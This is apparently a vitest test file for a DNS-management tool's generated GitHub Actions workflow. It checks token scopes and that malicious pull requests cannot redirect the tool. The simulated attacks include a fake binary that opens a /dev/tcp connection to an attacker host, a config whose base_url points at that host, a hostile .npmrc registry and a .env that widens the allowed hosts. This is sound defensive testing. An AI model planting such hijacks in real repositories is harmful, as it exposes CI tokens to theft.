/** The CI workflows of `init` and the documentation: their structure, and their steps with a real git repository and service. */
import { execFileSync, spawn } from 'node:child_process'
import { chmodSync, mkdirSync, readFileSync, rmSync, symlinkSync, writeFileSync } from 'node:fs'
import { dirname, join } from 'node:path'
import { describe, expect, test } from 'vitest'
import { parse } from 'yaml'
import { initFiles, workflow } from '../../src/cli/init-files.ts'
import { ADD_TO_GITHUB_PATH, INSTALL_SCRIPT } from '../../src/cli/install-script.ts'
import { NO_RELEASE } from '../../src/cli/release.ts'
import type { DomainName } from '../../src/dns/domain-name.ts'
import { type Attacker, startAttacker } from '../support/attacker.ts'
import { builtProgram } from '../support/built-program.ts'
import { cli } from '../support/cli.ts'
import { describeWithTools } from '../support/skip.ts'
import { temporaryDirectory } from '../support/temp-directory.ts'
import { filesBelow, openScene, type Scene, ZONE } from './scene.ts'

interface Step {
  readonly uses?: string
  readonly run?: string
  readonly with?: Readonly<Record<string, unknown>>
  readonly env?: Readonly<Record<string, string>>
}

interface Workflow {
  readonly on: Readonly<Record<string, { readonly branches: readonly string[] }>>
  readonly permissions: unknown
  readonly env: Readonly<Record<string, string>>
  readonly jobs: Readonly<Record<string, { readonly steps: readonly Step[]; readonly environment?: string; readonly if?: string }>>
}

const RELEASE = { tarball: 'https://releases.example.com/zonewright-1.2.3.tgz', checksum: 'ab'.repeat(32) }

const generated = workflow(RELEASE, ['dns.example.net', '192.0.2.53:53'])

const documented = (): string => {
  const page = readFileSync(new URL('../../docs/saved-plans.md', import.meta.url), 'utf8')
  return /^```yaml\n(on:\n.*?)^```$/ms.exec(page)?.[1] as string
}

/** The step that installs the program. */
const INSTALL = 'sh -c "$INSTALL_ZONEWRIGHT"'

const secretsOf = (value: unknown): string[] => [...JSON.stringify(value).matchAll(/secrets\.([A-Z_]+)/g)].map(([, name]) => name as string)

describe.each([
  ['of init', generated],
  ['of docs/saved-plans.md', documented()],
])('the workflow %s', (_, text) => {
  const parsed = parse(text) as Workflow
  const jobs = Object.entries(parsed.jobs)

  test('sets the allowed hosts for all jobs, and may only read the repository', () => {
    expect(parsed.env['ZONEWRIGHT_ALLOWED_HOSTS']).toMatch(/^dns\.example\.net\b/)
    expect(parsed.permissions).toEqual({ contents: 'read' })
  })

  test('runs for the branch main and for pull requests to it, never with the rights of the base (pull_request_target)', () => {
    expect(Object.keys(parsed.on).filter((event) => event !== 'push' && event !== 'pull_request')).toEqual([])
    for (const { branches } of Object.values(parsed.on)) expect(branches).toEqual(['main'])
  })

  test.each(jobs)('%s: no file of the repository selects the program', (_name, { steps }) => {
    const install = steps.findIndex(({ run }) => run === INSTALL)
    expect(parsed.env['INSTALL_ZONEWRIGHT']).toBe(INSTALL_SCRIPT + ADD_TO_GITHUB_PATH)
    expect(parsed.env['ZONEWRIGHT_TARBALL']).toMatch(/^https:\/\/releases\.example\.com\/.*\.tgz$/)
    expect(parsed.env['ZONEWRIGHT_CHECKSUM']).toMatch(/^[0-9a-f]{64}$/)
    const files = steps.findIndex(({ uses }) => /^actions\/(?:checkout|download-artifact)@/.test(uses ?? ''))
    expect(install).toBeGreaterThanOrEqual(0)
    expect(files).toBeGreaterThan(install)
    for (const { run = '' } of steps.slice(files)) expect(run).not.toMatch(/\b(?:npx|npm|node|node_modules)\b/)
  })

  test.each(jobs)('%s: a checkout keeps no credentials, and no script contains an expression', (_name, { steps }) => {
    for (const { uses = '', with: settings, run = '' } of steps) {
      if (uses.startsWith('actions/checkout@')) expect(settings).toMatchObject({ 'persist-credentials': false })
      expect(run).not.toContain('${{')
    }
  })

  test('only apply has the read-write token, in an environment; plan has the read-only token', () => {
    const { apply, plan, ...others } = parsed.jobs
    expect(secretsOf(apply)).toContain('ZONEWRIGHT_TOKEN')
    expect(apply?.environment).toMatch(/^[a-z]+$/)
    expect(secretsOf(plan)).toContain('ZONEWRIGHT_READ_TOKEN')
    expect(secretsOf(plan)).not.toContain('ZONEWRIGHT_TOKEN')
    expect(secretsOf(others)).toEqual([])
    expect(secretsOf({ ...parsed, jobs: {} })).toEqual([])
  })

  test('comments name the scopes', () => {
    const comments = text
      .split('\n')
      .filter((line) => /^\s*#/.test(line))
      .join('\n')
    expect(comments).toContain('domains:read_only')
    expect(comments).toContain('domains:read_write')
  })
})

test('the workflow of init names the scopes of plan, verify and apply', () => {
  expect(generated).toMatch(/^# {3}plan +domains:read_only .*\n# {3}verify +domains:read_only .*\n# {3}apply +domains:read_write /m)
  const { jobs } = parse(generated) as Workflow
  expect(jobs['plan']?.if).toContain("github.event_name == 'pull_request'")
  expect(jobs['plan']?.if).toContain('head.repo.full_name == github.repository')
  expect(jobs['apply']?.if).toBe("github.event_name == 'push'")
})

test('init sets the hosts of its config', async () => {
  const [config, definition, dns] = initFiles({ zone: 'example.com.' as DomainName, soaEmail: 'a@example.com', release: NO_RELEASE })
  const folder = temporaryDirectory()
  for (const { path, text } of [config, definition] as { path: string; text: string }[]) {
    mkdirSync(dirname(join(folder, path)), { recursive: true })
    writeFileSync(join(folder, path), text)
  }
  const { env } = parse(dns?.text ?? '') as Workflow
  expect(env['ZONEWRIGHT_ALLOWED_HOSTS']).toBe('127.0.0.1:8080, 127.0.0.1:5353')
  expect((await cli(['validate'], { cwd: folder, env })).status).toBe(0)
  for (const less of ['127.0.0.1:8080', '127.0.0.1:5353'])
    expect((await cli(['validate'], { cwd: folder, env: { ZONEWRIGHT_ALLOWED_HOSTS: less } })).status).toBe(1)
})

test('init --from sets the host of the provider', async () => {
  const scene = await openScene()
  await scene.run('apply', '--yes')
  const folder = temporaryDirectory()
  const { host, origin } = new URL(scene.proxy.origin)
  const { status } = await cli(['init', '--from', `${origin}/v4`], { cwd: folder, env: { ZONEWRIGHT_TOKEN: scene.service.token ?? '' } })
  expect(status).toBe(0)
  const { env } = parse(filesBelow(folder)['.github/workflows/dns.yml'] as string) as Workflow
  expect(env['ZONEWRIGHT_ALLOWED_HOSTS']).toBe(host)
})

const READ = 'reads-0123456789abcdef'
const WRITE = 'writes-0123456789abcdef'
const SECRETS: Readonly<Record<string, string>> = { ZONEWRIGHT_READ_TOKEN: READ, ZONEWRIGHT_TOKEN: WRITE }

const SEED = `accounts:
  - users:
      - username: owner
        email: owner@example.com
        tokens:
          - {token: ${READ}, label: reads, scopes: 'domains:read_only'}
          - {token: ${WRITE}, label: writes, scopes: 'domains:read_write'}
`

const git = (cwd: string, ...args: string[]): string =>
  execFileSync('git', ['-c', 'user.name=t', '-c', 'user.email=t@example.com', '-c', 'init.defaultBranch=main', ...args], {
    cwd,
    encoding: 'utf8',
    stdio: ['ignore', 'pipe', 'ignore'],
  })

/** A bare repository with the config and the zone on main, and a clone of a user who may push branches. */
interface Repository {
  readonly bare: string
  readonly clone: string
  /** Pushes a branch with the changes of `change`. */
  branch(name: string, change: (folder: string) => void): void
}

async function openRepository(scene: Scene): Promise<Repository> {
  const bare = temporaryDirectory()
  git(bare, 'init', '--bare', '.')
  const clone = temporaryDirectory()
  git(clone, 'clone', '-q', bare, '.')
  git(clone, 'checkout', '-q', '-b', 'main')
  mkdirSync(join(clone, 'zones'))
  writeFileSync(join(clone, 'zonewright.yaml'), scene.files()['zonewright.yaml'] as string)
  writeFileSync(join(clone, 'zones/example.com.yaml'), ZONE)
  const push = (branch: string): void => {
    git(clone, 'add', '-A')
    git(clone, 'commit', '-q', '-m', branch)
    git(clone, 'push', '-q', 'origin', `HEAD:refs/heads/${branch}`)
  }
  push('main')
  return {
    bare,
    clone,
    branch: (name, change) => {
      git(clone, 'checkout', '-q', '-b', name, 'main')
      change(clone)
      push(name)
      git(clone, 'checkout', '-q', '-f', 'main')
    },
  }
}

/** Like actions/checkout for a pull request with `fetch-depth: 0`: all branches and tags, and the merge of the two branches. */
function checkOut({ bare }: Repository, branch: string): string {
  const workspace = temporaryDirectory()
  git(workspace, 'init', '-q', '.')
  git(workspace, 'remote', 'add', 'origin', bare)
  git(workspace, 'fetch', '-q', '--tags', 'origin', '+refs/heads/*:refs/remotes/origin/*')
  git(workspace, 'checkout', '-q', '--detach', 'refs/remotes/origin/main')
  git(workspace, 'merge', '-q', '--no-edit', `refs/remotes/origin/${branch}`)
  return workspace
}

interface JobRun {
  readonly status: number
  readonly output: string
  readonly summary: string
}

/** Runs the scripts of a job like the runner, with the built program in its path. */
async function runJob(job: string, scene: Scene, workspace: string): Promise<JobRun> {
  const { proxy, service } = scene
  const text = workflow(RELEASE, [new URL(proxy.origin).host, `${service.dnsAddress?.host}:${service.dnsAddress?.port}`])
  const { env, jobs } = parse(text) as Workflow
  const tools = temporaryDirectory()
  writeFileSync(join(tools, 'zonewright'), `#!/bin/sh\nexec '${process.execPath}' '${await builtProgram()}' "$@"\n`)
  chmodSync(join(tools, 'zonewright'), 0o755)
  const summary = join(temporaryDirectory(), 'summary.md')
  writeFileSync(summary, '')
  let output = ''
  for (const step of jobs[job]?.steps ?? []) {
    if (step.run === undefined || step.run === INSTALL) continue
    const own = Object.entries(step.env ?? {}).map(([name, value]) => [
      name,
      value.replace(/^\$\{\{ secrets\.(\w+) \}\}$/, (_, key) => SECRETS[key] ?? ''),
    ])
    const ended = await script(step.run, workspace, {
      PATH: `${tools}:${process.env['PATH']}`,
      HOME: tools,
      CI: 'true',
      GITHUB_ACTIONS: 'true',
      GITHUB_BASE_REF: 'main',
      GITHUB_STEP_SUMMARY: summary,
      ...env,
      ...Object.fromEntries(own),
    })
    output += ended.output
    if (ended.status !== 0) return { status: ended.status, output, summary: readFileSync(summary, 'utf8') }
  }
  return { status: 0, output, summary: readFileSync(summary, 'utf8') }
}

function script(text: string, cwd: string, env: Readonly<Record<string, string>>): Promise<{ status: number; output: string }> {
  return new Promise((resolve, reject) => {
    const child = spawn('bash', ['-e', '-c', text], { cwd, env, stdio: ['ignore', 'pipe', 'pipe'] })
    let output = ''
    for (const stream of [child.stdout, child.stderr]) stream.setEncoding('utf8').on('data', (piece: string) => (output += piece))
    child.on('error', reject)
    child.on('close', (status) => resolve({ status: status ?? 1, output }))
  })
}

const evilConfig = ({ host }: Attacker): string =>
  `providers: {cloud: {type: cloud, base_url: 'http://${host}/v4', token: 'env:ZONEWRIGHT_TOKEN'}}\n`

describeWithTools(['git', 'bash'], 'the jobs of the workflow', () => {
  test('plan shows the changes of the pull request and writes nothing; apply applies them after the merge', async () => {
    const scene = await openScene({ seed: SEED })
    const repository = await openRepository(scene)
    repository.branch('change', (folder) => writeFileSync(join(folder, 'zones/example.com.yaml'), ZONE.replace('192.0.2.2', '192.0.2.7')))
    const workspace = checkOut(repository, 'change')
    expect(await runJob('check', scene, workspace)).toMatchObject({ status: 0 })
    expect(scene.proxy.requests).toEqual([])
    const planned = await runJob('plan', scene, workspace)
    expect(planned).toMatchObject({ status: 0, summary: expect.stringContaining('192.0.2.7') })
    expect(scene.proxy.mutations()).toEqual([])
    expect(new Set(scene.proxy.requests.map(({ headers }) => headers.authorization))).toEqual(new Set([`Bearer ${READ}`]))
    const applied = await runJob('apply', scene, workspace)
    expect(applied).toMatchObject({ status: 0, summary: expect.stringContaining('192.0.2.7') })
    expect(new Set(scene.proxy.mutations().map(({ headers }) => headers.authorization))).toEqual(new Set([`Bearer ${WRITE}`]))
  })

  test.each<[string, (folder: string, attacker: Attacker) => void]>([
    ['changes the config', (folder, attacker) => writeFileSync(join(folder, 'zonewright.yaml'), evilConfig(attacker))],
    [
      'replaces the config by a link to its own file',
      (folder, attacker) => {
        writeFileSync(join(folder, 'evil.yaml'), evilConfig(attacker))
        rmSync(join(folder, 'zonewright.yaml'))
        symlinkSync('evil.yaml', join(folder, 'zonewright.yaml'))
      },
    ],
    [
      'replaces the config by a folder',
      (folder, attacker) => {
        rmSync(join(folder, 'zonewright.yaml'))
        mkdirSync(join(folder, 'zonewright.yaml'))
        writeFileSync(join(folder, 'zonewright.yaml/zonewright.yaml'), evilConfig(attacker))
      },
    ],
    [
      'adds a program, packages and npm settings',
      (folder, attacker) => {
        mkdirSync(join(folder, 'node_modules/.bin'), { recursive: true })
        writeFileSync(join(folder, 'node_modules/.bin/zonewright'), `#!/bin/sh\nexec 3<>/dev/tcp/${attacker.host.replace(':', '/')}\n`)
        chmodSync(join(folder, 'node_modules/.bin/zonewright'), 0o755)
        writeFileSync(join(folder, '.npmrc'), `registry=http://${attacker.host}/\n`)
        writeFileSync(join(folder, '.env'), `ZONEWRIGHT_ALLOWED_HOSTS=${attacker.host}\n`)
        writeFileSync(join(folder, 'zonewright.yaml'), evilConfig(attacker))
      },
    ],
  ])('plans a pull request that %s with the config of the base branch', async (_, change) => {
    const scene = await openScene({ seed: SEED })
    const attacker = await startAttacker()
    const repository = await openRepository(scene)
    repository.branch('attack', (folder) => change(folder, attacker))
    const workspace = checkOut(repository, 'attack')
    await runJob('check', scene, workspace)
    const planned = await runJob('plan', scene, workspace)
    expect(planned).toMatchObject({ status: 0, summary: expect.stringContaining('192.0.2.2') })
    expect(attacker.received()).toBe('')
    expect(new Set(scene.proxy.requests.map(({ headers }) => headers.authorization))).toEqual(new Set([`Bearer ${READ}`]))
  })

  test('a tag with the name of the branch does not replace it', async () => {
    const scene = await openScene({ seed: SEED })
    const attacker = await startAttacker()
    const repository = await openRepository(scene)
    repository.branch('attack', (folder) => writeFileSync(join(folder, 'zonewright.yaml'), evilConfig(attacker)))
    for (const tag of ['main', 'origin/main', 'refs/remotes/origin/main']) git(repository.clone, 'tag', tag, 'attack')
    git(repository.clone, 'push', '-q', '--tags', 'origin')
    const planned = await runJob('plan', scene, checkOut(repository, 'attack'))
    expect(planned).toMatchObject({ status: 0, summary: expect.stringContaining('192.0.2.2') })
    expect(attacker.received()).toBe('')
  })

  test('check refuses a host that is not in the list, without a token', async () => {
    const scene = await openScene({ seed: SEED })
    const attacker = await startAttacker()
    const repository = await openRepository(scene)
    repository.branch('attack', (folder) => writeFileSync(join(folder, 'zonewright.yaml'), evilConfig(attacker)))
    const checked = await runJob('check', scene, checkOut(repository, 'attack'))
    expect(checked).toMatchObject({ status: 1, output: expect.stringContaining('host-not-allowed') })
    expect(attacker.received()).toBe('')
  })

  test('apply refuses that host after a merge, with the list of the workflow', async () => {
    const scene = await openScene({ seed: SEED })
    const attacker = await startAttacker()
    const repository = await openRepository(scene)
    repository.branch('attack', (folder) => writeFileSync(join(folder, 'zonewright.yaml'), evilConfig(attacker)))
    const applied = await runJob('apply', scene, checkOut(repository, 'attack'))
    expect(applied.status).toBe(1)
    expect(attacker.received()).toBe('')
  })
})
